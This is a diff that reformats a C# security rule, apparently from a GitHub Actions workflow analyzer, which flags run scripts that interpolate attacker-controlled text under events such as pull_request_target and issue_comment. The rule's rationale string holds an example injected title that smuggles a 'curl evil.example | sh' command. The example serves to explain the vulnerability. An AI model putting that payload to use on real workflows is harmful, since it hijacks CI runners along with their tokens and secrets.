@@ -13,7 +13,8 @@ internal sealed class UntrustedInputInScript : Rule<(string Name, WorkflowStep S
             Title = "Text of strangers in a script",
             Area = Area.Security,
             Severity = Severity.High,
-            Rationale = "GitHub puts the text into the script before the shell reads it. A title such as `\"; curl evil.example | sh; \"` runs on the runner, with its token and secrets.",
+            Rationale =
+                "GitHub puts the text into the script before the shell reads it. A title such as `\"; curl evil.example | sh; \"` runs on the runner, with its token and secrets.",
             Holds = "No script holds text that strangers write.",
         };
 
@@ -33,7 +34,15 @@ internal sealed class UntrustedInputInScript : Rule<(string Name, WorkflowStep S
         "github.head_ref",
     ];
 
-    private static readonly string[] OpenEvents = ["pull_request_target", "issues", "issue_comment", "discussion", "discussion_comment", "workflow_run"];
+    private static readonly string[] OpenEvents =
+    [
+        "pull_request_target",
+        "issues",
+        "issue_comment",
+        "discussion",
+        "discussion_comment",
+        "workflow_run",
+    ];
 
     public override IEnumerable<(string Name, WorkflowStep Step, WorkflowTrigger? Open)> Subjects(Deployment deployment) =>
         from workflow in deployment.Of<Workflow>()
@@ -43,11 +52,14 @@ internal sealed class UntrustedInputInScript : Rule<(string Name, WorkflowStep S
         where step.Run is not null
         select ($"{workflow.File.Name}: {job.Id}", step, open);
 
-    protected override Subject Identify((string Name, WorkflowStep Step, WorkflowTrigger? Open) subject) => new(subject.Name, subject.Step.Span);
+    protected override Subject Identify((string Name, WorkflowStep Step, WorkflowTrigger? Open) subject) =>
+        new(subject.Name, subject.Step.Span);
 
     protected override IEnumerable<Verdict> Check((string Name, WorkflowStep Step, WorkflowTrigger? Open) subject, Deployment deployment)
     {
-        var found = subject.Step.Run?.Text.References.FirstOrDefault(reference => Strangers.Contains(reference.ToString(), StringComparer.OrdinalIgnoreCase));
+        var found = subject.Step.Run?.Text.References.FirstOrDefault(reference =>
+            Strangers.Contains(reference.ToString(), StringComparer.OrdinalIgnoreCase)
+        );
         if (found is null)
         {
             yield break;
